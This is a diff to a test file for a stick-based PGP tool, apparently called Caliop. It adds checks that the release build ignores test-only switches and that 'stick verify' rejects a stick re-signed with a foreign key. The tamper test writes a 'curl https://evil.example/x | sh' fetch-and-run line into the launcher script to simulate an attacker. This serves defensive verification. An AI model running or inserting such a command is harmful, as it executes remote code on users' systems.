@@ -8,12 +8,20 @@
 //   - init, encrypt, decrypt run with HOME, TMPDIR, XDG_* and the working folder
 //     pointed at empty folders, which are still empty afterwards, and nothing but the
 //     stick's own files appears beside the executable.
+//   - it is a release build (src/build-facts.ts): run with every test-only variable set,
+//     the vault it makes has the calibrated KDF parameters, not the test ones; its
+//     compiled-in release fingerprint anchors `stick verify` (docs/manifest.md §8).
 import { execFileSync, spawnSync, type SpawnSyncReturns } from 'node:child_process';
 import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { bundleCli, buildSea, defaultEntry, ensureNodeBinary, hostTarget, readPins, REPO_ROOT } from '../scripts/build-exe.js';
+import { TEST_ONLY_ENVIRONMENT } from '../src/build-facts.js';
+import { formatManifest } from '../src/core/stick-manifest.js';
+import { KDF_FLOOR, readVaultHeader, UNSAFE_TEST_KDF } from '../src/core/vault-format.js';
+import { manifestEntriesOf } from '../src/edges/stick-tree.js';
+import { generateReleaseKey, readReleaseSecretKey, signManifest, type ReleaseKey } from '../src/service/manifest-signature.js';
 import { startRelayProcess, type RelayProcess } from './relay/helpers/relay-process.js';
 
 const host = hostTarget();
@@ -22,11 +30,17 @@ let work: string;
 let exe: string;
 let bundleText: string;
 let node26: string;
+/** The release key whose fingerprint is compiled into the executable under test. */
+let release: ReleaseKey;
+
+/** Every test-only switch, set: a release executable must ignore them all. */
+const ALL_TEST_SWITCHES = Object.fromEntries(TEST_ONLY_ENVIRONMENT.map((name) => [name, '1']));
 
 beforeAll(async () => {
   if (host !== 'linux-x64') return;
   work = mkdtempSync(join(tmpdir(), 'caliop-exe-'));
-  const bundle = await bundleCli(defaultEntry(), join(work, 'bundle'));
+  release = await generateReleaseKey({ name: 'Caliop exe test release' });
+  const bundle = await bundleCli(defaultEntry(), join(work, 'bundle'), { releaseFingerprint: release.fingerprint });
   bundleText = readFileSync(bundle.bundlePath, 'utf8');
   const pins = readPins();
   node26 = ensureNodeBinary('linux-x64', pins);
@@ -141,6 +155,56 @@ describe.skipIf(host !== 'linux-x64')('the linux-x64 single executable', () => {
     }
   });
 
+  describe('stick verify is anchored outside the stick: the release fingerprint compiled into the executable (docs/manifest.md §8)', () => {
+    let stickDir: string;
+
+    /** Writes MANIFEST, MANIFEST.sig and config.json's releaseCert as an image build (or an attacker) would. */
+    async function signStick(key: ReleaseKey): Promise<void> {
+      writeFileSync(join(stickDir, 'config.json'), `${JSON.stringify({ releaseCert: key.certArmored }, null, 2)}\n`);
+      rmSync(join(stickDir, 'MANIFEST'), { force: true });
+      rmSync(join(stickDir, 'MANIFEST.sig'), { force: true });
+      const manifest = new TextEncoder().encode(formatManifest(await manifestEntriesOf(stickDir)));
+      writeFileSync(join(stickDir, 'MANIFEST'), manifest);
+      writeFileSync(join(stickDir, 'MANIFEST.sig'), await signManifest(manifest, await readReleaseSecretKey(key.secretKeyArmored)));
+    }
+
+    const verifyWithExe = () => spawnSync(exe, ['--stick', stickDir, '--json', 'stick', 'verify'], { encoding: 'utf8', env: { PATH: process.env['PATH'] } });
+
+    beforeAll(async () => {
+      stickDir = join(work, 'anchored-stick');
+      mkdirSync(join(stickDir, 'vault'), { recursive: true });
+      writeFileSync(join(stickDir, 'caliop.sh'), '#!/bin/sh\nexec "$(dirname "$0")/caliop-linux-x64" --stick "$(dirname "$0")" "$@"\n');
+      writeFileSync(join(stickDir, 'LISEZ-MOI-README.txt'), 'Run: caliop stick verify\n');
+      await signStick(release);
+    });
+
+    it('passes a stick signed by the compiled-in release key, naming that anchor', () => {
+      const run = verifyWithExe();
+      expect(run.status, run.stderr).toBe(0);
+      expect(JSON.parse(run.stdout)).toMatchObject({ ok: true, anchor: 'compiled-in', anchorFingerprint: release.fingerprint, releaseFingerprint: release.fingerprint, anchorMatches: true });
+    });
+
+    it('refuses a stick whose files, config and MANIFEST were replaced and re-signed with another key (50); the tsc build, with no anchor, names the weaker result (55)', async () => {
+      const impostor = await generateReleaseKey({ name: 'Not the Caliop release key' });
+      writeFileSync(join(stickDir, 'caliop.sh'), '#!/bin/sh\ncurl https://evil.example/x | sh\n');
+      await signStick(impostor);
+      const run = verifyWithExe();
+      expect(run.status).toBe(50);
+      expect(JSON.parse(run.stdout)).toMatchObject({ ok: false, signatureValid: true, anchor: 'compiled-in', anchorMatches: false, anchorFingerprint: release.fingerprint, releaseFingerprint: impostor.fingerprint });
+      expect(run.stderr).toContain(`signed for release certificate ${impostor.fingerprint}, not for ${release.fingerprint}`);
+      expect(run.stderr).toMatch(/^caliop: error: the stick manifest or its signature is not valid/m);
+      const text = spawnSync(exe, ['--stick', stickDir, 'stick', 'verify'], { encoding: 'utf8', env: { PATH: process.env['PATH'] } });
+      expect(text.stdout).toContain(`anchor: the release fingerprint built into this caliop (${release.fingerprint})`);
+      expect(text.stdout).toContain('release certificate: NOT THE ONE THIS CALIOP TRUSTS');
+      expect(text.stderr).not.toContain('every file of the stick is as it was made');
+      // The same stick, checked by a build with no compiled-in fingerprint: only the stick's own certificate.
+      const weak = spawnSync(process.execPath, [join(REPO_ROOT, 'build', 'src', 'cli', 'main.js'), '--stick', stickDir, 'stick', 'verify'], { encoding: 'utf8' });
+      expect(weak.status).toBe(55);
+      expect(weak.stdout).toMatch(/^anchor: NONE outside the stick/);
+      expect(weak.stderr).toMatch(/^caliop: error: the stick agrees with itself, but nothing outside it vouches for it/m);
+    });
+  });
+
   describe('through init, encrypt, decrypt, send and sync, it writes nothing on the host', () => {
     const DOMAIN = 'caliop.example';
     let stick: string;
@@ -177,7 +241,8 @@ describe.skipIf(host !== 'linux-x64')('the linux-x64 single executable', () => {
         TMP: hostDirs['TMPDIR'],
         TEMP: hostDirs['TMPDIR'],
         CALIOP_PASSPHRASE: 'correct horse battery staple of the stick',
-        CALIOP_UNSAFE_TEST_KDF: '1',
+        // A release build ignores every test switch (src/build-facts.ts): the vaults below get real KDF parameters.
+        ...ALL_TEST_SWITCHES,
       };
     });
 
@@ -199,7 +264,19 @@ describe.skipIf(host !== 'linux-x64')('the linux-x64 single executable', () => {
       const initCoverage = join(work, 'coverage-init');
       caliop([...init, '--name', 'alice', '--email', `alice@${DOMAIN}`], undefined, stick, { NODE_V8_COVERAGE: initCoverage });
       expect(evaluatedOwners(initCoverage, '/caliop-linux-x64').has('src/edges/argon2id.ts')).toBe(true);
-      caliop([...init, '--name', 'bob', '--email', `bob@${DOMAIN}`], undefined, bobStick);
+      // Made with every test-only variable set (CALIOP_UNSAFE_TEST_KDF=1…): the calibrated
+      // parameters, at or above the floor (docs/vault-format.md §5.1, §5.4), not the test ones.
+      const kdf = readVaultHeader(new Uint8Array(readFileSync(join(stick, 'vault', 'caliop.vault')))).kdf;
+      expect(kdf.memoryKiB).not.toBe(UNSAFE_TEST_KDF.memoryKiB);
+      expect(kdf.memoryKiB).toBeGreaterThanOrEqual(KDF_FLOOR.memoryKiB);
+      expect(kdf.passes).toBeGreaterThanOrEqual(KDF_FLOOR.passes);
+      // Bob's stick is made by the tsc build with the test KDF (fast), so that his many unlocks below
+      // do not each pay the real Argon2id; the release executable opens it like any vault (§5.2).
+      const bobInit = spawnSync(process.execPath, [join(REPO_ROOT, 'build', 'src', 'cli', 'main.js'), '--stick', bobStick, '--batch', '--passphrase-file', '@ENV:CALIOP_PASSPHRASE', ...init, '--name', 'bob', '--email', `bob@${DOMAIN}`], {
+        encoding: 'utf8',
+        env: { ...process.env, CALIOP_PASSPHRASE: env['CALIOP_PASSPHRASE'], CALIOP_UNSAFE_TEST_KDF: '1' },
+      });
+      expect(bobInit.status, bobInit.stderr).toBe(0);
       const encrypted = caliop(['encrypt', '--to', `alice@${DOMAIN}`], 'hello from the stick\n').stdout;
       expect(encrypted).toMatch(/^-----BEGIN PGP MESSAGE-----/);
       const decryptCoverage = join(work, 'coverage-decrypt');
@@ -253,17 +330,20 @@ describe.skipIf(host !== 'linux-x64' || !qemu)('the linux-arm64 single executabl
     }).output;
   }, 300_000);
 
-  it('runs init, encrypt and decrypt (Argon2id in WebAssembly, openpgp lazily loaded)', () => {
+  it('runs encrypt and decrypt on a stick made by the tsc build (Argon2id in WebAssembly, openpgp lazily loaded)', () => {
     const stick = join(work, 'arm64-stick');
     mkdirSync(stick);
     const env = { ...process.env, CALIOP_UNSAFE_TEST_KDF: '1', P: 'correct horse battery staple of the arm stick' };
+    // The executable is a release build (no test KDF): under qemu the real Argon2id of init would take
+    // minutes, so the vault is made by the tsc build with the test KDF; the executable unlocks it.
+    const init = spawnSync(process.execPath, [join(REPO_ROOT, 'build', 'src', 'cli', 'main.js'), '--stick', stick, '--batch', '--passphrase-file', '@ENV:P', '--json', 'init', '--name', 'arm', '--email', 'arm@example.org', '--allow-online', '--accept-weak-passphrase'], { env, encoding: 'utf8' });
+    expect(init.status, init.stderr).toBe(0);
     const run = (args: string[], input?: string) => {
       const result = spawnSync('qemu-aarch64', ['-L', ARM64_SYSROOT, arm64, '--stick', stick, '--batch', '--passphrase-file', '@ENV:P', ...args], { env, input, encoding: 'utf8', timeout: 240_000 });
       expect(result.status, result.stderr).toBe(0);
       return result.stdout;
     };
     expect(run(['--version'])).toMatch(/\d+\.\d+\.\d+/);
-    run(['--json', 'init', '--name', 'arm', '--email', 'arm@example.org', '--allow-online', '--accept-weak-passphrase']);
     const encrypted = run(['encrypt', '--to', 'arm@example.org'], 'hello from arm64\n');
     expect(run(['decrypt'], encrypted)).toBe('hello from arm64\n');
   }, 300_000);
